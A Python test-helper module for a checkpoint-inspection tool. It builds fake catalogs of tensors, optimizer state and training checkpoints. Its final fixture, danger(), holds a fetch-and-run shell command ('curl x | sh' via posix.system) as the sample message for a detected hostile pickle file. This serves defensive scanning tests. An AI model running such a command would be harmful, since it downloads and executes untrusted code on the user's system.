"""Catalogs written out as values, for tests of what is said about them."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

from unmoor.values.catalog import Catalog, Part, TensorEntry
from unmoor.values.finding import Finding
from unmoor.values.nodes import Opaque, Span
from unmoor.values.text import key_text

SIZES = {"float32": 4, "float16": 2, "bfloat16": 2, "int64": 8, "uint8": 1}


def tensor(
    keys: Sequence[Any],
    shape: Sequence[int] = (4,),
    *,
    role: str = "model",
    dtype: str = "float32",
    device: str = "cpu",
    storage: str = "",
    offset: int = 0,
    layout: str = "strided",
) -> TensorEntry:
    """One entry; contiguous, on a storage of its own unless `storage` names one."""
    stride, numel = [], 1
    for size in reversed(shape):
        stride.insert(0, numel)
        numel *= size
    nbytes = numel * SIZES[dtype]
    path = key_text(keys)
    return TensorEntry(
        path=path,
        role=role,
        shape=tuple(shape),
        dtype=dtype,
        stride=tuple(stride),
        device=device,
        nbytes=nbytes,
        storage=storage or path,
        span=Span(64, nbytes),
        offset=offset,
        layout=layout,
        keys=tuple(keys),
    )


def part(
    role: str,
    keys: Sequence[Any],
    entries: Iterable[TensorEntry] = (),
    *,
    kind: str = "state_dict",
    node: Any = None,
    **detail: Any,
) -> Part:
    """A part whose counts are those of `entries`."""
    held = list(entries)
    devices: dict[str, int] = {}
    for entry in held:
        devices[entry.device] = devices.get(entry.device, 0) + 1
    nbytes = sum(entry.nbytes for entry in held)
    return Part(role, kind, tuple(keys), len(held), nbytes, devices, detail, node)


def catalog(
    parts: Sequence[tuple[Part, Sequence[TensorEntry]]] = (),
    *,
    container: str = "torch-zip",
    dialect: str = "plain",
    size: int | None = None,
    findings: Sequence[Finding] = (),
    loose: Sequence[TensorEntry] = (),
    tree: Any = None,
    path: str = "run.pt",
) -> Catalog:
    """A catalog of parts with their entries."""
    tensors = tuple(entry for _, entries in parts for entry in entries) + tuple(loose)
    total = sum(entry.nbytes for entry in tensors)
    return Catalog(
        path=path,
        format=container,
        dialect=dialect,
        size=total + 1024 if size is None else size,
        tensors=tensors,
        parts=tuple(part for part, _ in parts),
        globals=(),
        findings=tuple(findings),
        tree=tree,
    )


def transformer(
    keys: Sequence[Any] = ("model",),
    *,
    layers: int = 4,
    width: int = 64,
    device: str = "cuda:0",
    dtype: str = "float32",
    role: str = "model",
) -> list[TensorEntry]:
    """The tensors of a small transformer, with a head tied to its embedding."""
    shapes: dict[str, tuple[int, ...]] = {"embed.weight": (1000, width)}
    for i in range(layers):
        for name in ("q", "k", "v", "out"):
            shapes[f"layers.{i}.attn.{name}.weight"] = (width, width)
            shapes[f"layers.{i}.attn.{name}.bias"] = (width,)
        shapes[f"layers.{i}.mlp.0.weight"] = (4 * width, width)
        shapes[f"layers.{i}.mlp.0.bias"] = (4 * width,)
        shapes[f"layers.{i}.mlp.2.weight"] = (width, 4 * width)
        shapes[f"layers.{i}.mlp.2.bias"] = (width,)
        shapes[f"layers.{i}.norm.weight"] = (width,)
    shapes["norm.weight"] = (width,)
    shapes["head.weight"] = (1000, width)
    tied = {"embed.weight": key_text([*keys, "tied"]), "head.weight": key_text([*keys, "tied"])}
    return [
        tensor([*keys, name], shape, role=role, device=device, dtype=dtype, storage=tied.get(name, ""))
        for name, shape in shapes.items()
    ]


def adam(keys: Sequence[Any], shapes: Sequence[Sequence[int]], *, device: str = "cuda:0") -> list[TensorEntry]:
    """Adam's state for parameters of `shapes`, its steps on the CPU."""
    entries = []
    for i, shape in enumerate(shapes):
        entries.append(tensor([*keys, "state", i, "step"], (), role="optimizer"))
        entries.append(tensor([*keys, "state", i, "exp_avg"], shape, role="optimizer", device=device))
        entries.append(tensor([*keys, "state", i, "exp_avg_sq"], shape, role="optimizer", device=device))
    return entries


def training_checkpoint(*, layers: int = 4) -> Catalog:
    """A model, its optimizer, scheduler, scaler, RNG states and plain values."""
    model = transformer(layers=layers)
    optimizer = adam(("optimizer",), [entry.shape for entry in model[:-1]])
    groups = [{"lr": 3e-4, "eps": 1e-8}, {"lr": 1e-5, "eps": 1e-8}]
    rng = [tensor(("rng", "torch"), (5056,), role="rng", dtype="uint8")]
    cuda = [tensor(("rng", "cuda", i), (16,), role="rng", dtype="uint8") for i in range(2)]
    count = len(model) - 1
    return catalog(
        [
            (part("rng", ("rng", "torch"), rng, kind="torch-cpu"), rng),
            (part("rng", ("rng", "cuda"), cuda, kind="cuda", streams=2), cuda),
            (part("model", ("model",), model), model),
            (
                part(
                    "optimizer",
                    ("optimizer",),
                    optimizer,
                    options=groups,
                    family="Adam",
                    groups=2,
                    params=count + 9,
                    with_state=count,
                ),
                optimizer,
            ),
            (part("scheduler", ("scheduler",), guess="CosineAnnealingLR", last_epoch=280, total=300), []),
            (part("scaler", ("scaler",), scale=65536.0), []),
            (part("extra", ("step",), kind="value"), []),
            (part("extra", ("config",), kind="value"), []),
        ],
        tree={"model": {}, "step": 12},
    )


def opaque(name: str, *args: Any) -> Opaque:
    """An object that would need code."""
    return Opaque(name, args)


def danger(message: str = "would run posix.system('curl x | sh')", place: str = "callbacks") -> Finding:
    """What a reader of hostile files finds."""
    return Finding("dangerous-code", "danger", place, message, "do not load this file with torch.load")
